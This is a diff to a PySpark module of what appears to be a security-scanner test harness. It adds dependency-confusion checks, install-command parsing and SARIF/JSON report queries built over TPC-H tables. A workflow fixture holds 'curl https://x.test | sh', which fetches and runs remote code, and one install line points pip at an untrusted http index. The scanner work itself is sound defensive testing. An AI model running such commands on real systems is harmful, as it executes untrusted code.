@@ -5,9 +5,9 @@ from __future__ import annotations
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
-from quarrylens.operators import analytics, indicators, rules, scan
+from quarrylens.operators import analytics, assess, indicators, rules, scan
 from quarrylens.plans.catalog import LINES, ORDERS, WEIGHT, query
-from quarrylens.sources import tables, workflows
+from quarrylens.sources import documents, sinks, tables, workflows
 
 _FLOW = "on: push\npermissions:\n  contents: read\njobs:\n  b:\n    steps:\n      - env:\n          X: curl https://x.test | sh\n        run: |\n          curl https://x.test | sh\n"
 #: (files, what is found: line, rule, severity, detector, condition on the part).
@@ -102,3 +102,45 @@ def feed_in_documents(spark, d):
     words = tables.table(spark, d, "benchmark").select(F.col("item_id").alias("pos"), F.split("text", " ")[0].alias("value")).where("length(value) > 3")
     feed = words.select("pos", F.lit("ip").alias("type"), "value", F.lit("high").alias("severity"))
     return indicators.feed_hits(rules.lines(tables.files(spark, d)), feed).select("path", "line", "value", "pos")
+
+
+# ------------------------------------------------------------------ packages by what the tables say of them
+@query("""WITH p AS (SELECT p_partkey, 'lib' || p_partkey::VARCHAR AS package, p_size % 10 <> 0 AS there, CASE WHEN p_size % 7 = 0 THEN NULL ELSE max(l_shipdate) END AS published,
+    CASE WHEN p_partkey % 9 = 0 THEN NULL ELSE sum(l_quantity)::BIGINT END AS downloads, CASE WHEN p_size % 11 = 0 THEN NULL ELSE p_size % 3 = 0 END AS scripts
+    FROM part LEFT JOIN lineitem ON l_partkey = p_partkey GROUP BY p_partkey, p_size),
+  q AS (SELECT *, (published > TIMESTAMP '1998-06-30' - INTERVAL 168 HOUR AND published IS NOT NULL)::INT + coalesce((downloads < 100)::INT, 0) + coalesce(scripts::INT, 0) AS flags FROM (SELECT p_partkey, package, there, published, downloads, scripts FROM p))
+  SELECT package, CASE WHEN NOT there THEN 'DEPCONF_NOT_ON_REGISTRY' WHEN p_partkey % 10 = 5 THEN 'DEP_INTERNAL_NAME_PUBLIC' ELSE 'DEP_SUSPICIOUS_METADATA' END AS rule,
+    CASE WHEN NOT there THEN 'high' WHEN p_partkey % 10 = 5 THEN CASE WHEN flags >= 2 THEN 'critical' ELSE 'high' END WHEN flags = 3 THEN 'high' ELSE 'medium' END AS severity
+  FROM q WHERE NOT there OR p_partkey % 10 = 5 OR flags >= 2""")
+def confusion_of_parts(spark, d):
+    """Packages whose age, downloads and scripts come from the tables, each of them unknown for some."""
+    sold = tables.table(spark, d, "lineitem").groupBy(F.col("l_partkey").alias("p_partkey")).agg(F.max("l_shipdate").alias("published"), F.sum("l_quantity").cast("long").alias("downloads"))
+    part = tables.table(spark, d, "part").select("p_partkey", "p_size").join(sold, "p_partkey", "left")
+    packages = part.select(
+        F.format_string("lib%d", "p_partkey").alias("package"), (F.col("p_size") % 10 != 0).alias("exists"), F.when(F.col("p_size") % 7 != 0, F.col("published").cast("timestamp")).alias("published"),
+        F.when(F.col("p_partkey") % 9 != 0, F.col("downloads")).alias("downloads"), F.when(F.col("p_size") % 11 != 0, F.col("p_size") % 3 == 0).alias("scripts"),
+    )
+    return assess.confusion(packages, "5$", (), "1998-06-30")
+
+
+@query("""SELECT p_partkey, 'lib' || p_partkey::VARCHAR AS name, CASE p_size % 5 WHEN 0 THEN '1.2' WHEN 3 THEN '' ELSE p_size::VARCHAR END AS version FROM part WHERE p_size % 5 <> 4""")
+def install_commands(spark, d):
+    """Packages that commands of many shapes install; a fifth of the parts only list theirs."""
+    shapes = ["sudo npm --prefix x install lib{n}@1.2", "cd a && npm i --save-dev lib{n}@{v}", "FOO=1 python3 -m pip install -U --index-url http://x.test lib{n}=={v} ./local", "env A=b yarn add -D lib{n}; ls other", "npm ls lib{n}"]
+    command = F.element_at(F.array(*map(F.lit, shapes)), (F.col("p_size") % 5 + 1).cast("int"))
+    filled = F.replace(F.replace(command, F.lit("{n}"), F.col("p_partkey").cast("string")), F.lit("{v}"), F.col("p_size").cast("string"))
+    return tables.table(spark, d, "part").select("p_partkey", F.explode(assess.install_specs(filled)).alias("s")).select("p_partkey", "s.name", "s.version")
+
+
+@query(f"""SELECT target, '[' || string_agg('{{"ruleId":"' || rule || '","level":"' || CASE severity WHEN 'critical' THEN 'error' WHEN 'high' THEN 'error' WHEN 'medium' THEN 'warning' ELSE 'note' END || '","message":{{"text":"' || description
+    || '"}},"locations":[{{"physicalLocation":{{"artifactLocation":{{"uri":"' || file || '"}},"region":{{"startLine":' || greatest(1, line) || '}}}}}}]}}', ',' ORDER BY seq) || ']' AS results FROM {ORDERS} WHERE NOT (severity = 'info' AND seq % 3 = 0) GROUP BY 1""")
+def report_sarif_locations(spark, d):
+    """Results of each target with their places; suppressed findings are left out."""
+    f = tables.order_findings(spark, d)
+    return documents.sarif_located(f, (F.col("severity") == "info") & (F.col("seq") % 3 == 0)).select("target", "results")
+
+
+@query(f"""SELECT '{{"target":' || target || ',"seq":' || seq || ',"rule":"' || rule || '","severity":"' || severity || '","file":"' || file || '"}}' AS value FROM {ORDERS}""")
+def report_json_rows(spark, d):
+    """One JSON object a finding."""
+    return sinks.json_rows(tables.order_findings(spark, d).select("target", "seq", "rule", "severity", "file"))
